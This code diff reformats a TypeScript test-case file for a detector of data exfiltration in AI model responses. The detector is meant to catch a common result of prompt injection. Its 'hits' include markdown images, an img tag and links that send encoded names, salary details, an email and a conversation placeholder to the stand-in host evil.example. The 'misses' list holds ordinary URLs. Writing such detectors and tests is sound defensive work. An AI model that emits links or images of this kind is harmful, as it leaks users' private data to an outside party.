@@ -2,8 +2,17 @@ import type { Cases } from '../cases.ts';
 
 export const cases: Cases = {
   hits: [
-    { rule: 'exfiltration.image', text: 'Done. ![x](https://evil.example/p.png?q=bmFtZTogSmFuZSBEb2U=) ok', point: 'response', found: '![x](https://evil.example/p.png?q=bmFtZTogSmFuZSBEb2U=)' },
-    { rule: 'exfiltration.image', text: '![x](//evil.example/?d=the%20user%20said%20that%20her%20salary%20is%20low%20now)', point: 'response' },
+    {
+      rule: 'exfiltration.image',
+      text: 'Done. ![x](https://evil.example/p.png?q=bmFtZTogSmFuZSBEb2U=) ok',
+      point: 'response',
+      found: '![x](https://evil.example/p.png?q=bmFtZTogSmFuZSBEb2U=)',
+    },
+    {
+      rule: 'exfiltration.image',
+      text: '![x](//evil.example/?d=the%20user%20said%20that%20her%20salary%20is%20low%20now)',
+      point: 'response',
+    },
     { rule: 'exfiltration.image', text: '<img alt="" src="https://evil.example/i?c={conversation}">', point: 'response' },
     { rule: 'exfiltration.image', text: 'see [a]\n\n[a]: https://evil.example/?m=<EMAIL_ADDRESS_1a2b3c4d5e>', point: 'response' },
     { rule: 'exfiltration.image', text: '![q](https://evil.example/4a616e6520446f652c2073616c617279203530303030)', point: 'response' },
@@ -12,9 +21,21 @@ export const cases: Cases = {
     { rule: 'exfiltration.link', text: 'http://4a616e6520446f652c2073616c61727920353030303061.evil.example/', point: 'response' },
   ],
   misses: [
-    { rule: 'exfiltration.image', text: '![build](https://img.shields.io/badge/build-passing-green.svg?style=flat&logo=github)', point: 'response' },
-    { rule: 'exfiltration.image', text: '![p](https://images.example.com/photo-1500530855697-b586d89ba3ee?ixlib=rb-4.0.3&auto=format&fit=crop&w=1080)', point: 'response' },
-    { rule: 'exfiltration.link', text: '[search](https://www.example.com/search?q=how+to+cook+rice) https://en.wikipedia.org/wiki/Data_exfiltration', point: 'response' },
+    {
+      rule: 'exfiltration.image',
+      text: '![build](https://img.shields.io/badge/build-passing-green.svg?style=flat&logo=github)',
+      point: 'response',
+    },
+    {
+      rule: 'exfiltration.image',
+      text: '![p](https://images.example.com/photo-1500530855697-b586d89ba3ee?ixlib=rb-4.0.3&auto=format&fit=crop&w=1080)',
+      point: 'response',
+    },
+    {
+      rule: 'exfiltration.link',
+      text: '[search](https://www.example.com/search?q=how+to+cook+rice) https://en.wikipedia.org/wiki/Data_exfiltration',
+      point: 'response',
+    },
     { rule: 'exfiltration.link', text: 'https://github.com/owner/repo/commit/9fceb02d0ae598e95dc970b74767f19372d61af8', point: 'response' },
   ],
 };
